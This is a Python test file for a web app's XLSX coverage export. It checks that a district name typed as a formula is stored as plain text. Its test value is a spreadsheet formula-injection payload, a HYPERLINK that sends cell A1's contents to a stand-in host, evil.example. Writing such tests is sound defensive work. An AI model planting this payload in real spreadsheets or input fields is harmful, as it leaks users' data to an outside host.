"""The coverage workbook writes a district name someone typed as text, never as a formula
Excel would run (issue #12, item 10; the CSV exports already escape them)."""
import io
import zipfile

from openpyxl import load_workbook

from tests import factories as f

EVIL = '=HYPERLINK("http://evil.example/?leak="&A1,"点击")'


def test_coverage_xlsx_writes_formulas_as_text(client):
    d = f.district(code="610198", name=EVIL, city="西安")
    f.centre(d)
    reg = f.user("regulator")
    assert client.post("/login", data={"login": reg.email, "password": f.PASSWORD}).status_code == 302
    resp = client.get("/regulator/coverage.xlsx")
    assert resp.status_code == 200
    with zipfile.ZipFile(io.BytesIO(resp.data)) as z:
        sheet = z.read("xl/worksheets/sheet1.xml").decode()
    assert "<f>" not in sheet and "<f " not in sheet
    cells = [c for row in load_workbook(io.BytesIO(resp.data)).active.iter_rows() for c in row]
    evil = [c for c in cells if c.value == EVIL]
    assert evil and all(c.data_type == "s" for c in evil)
    assert any(isinstance(c.value, int) for c in cells)  # numbers stay numbers
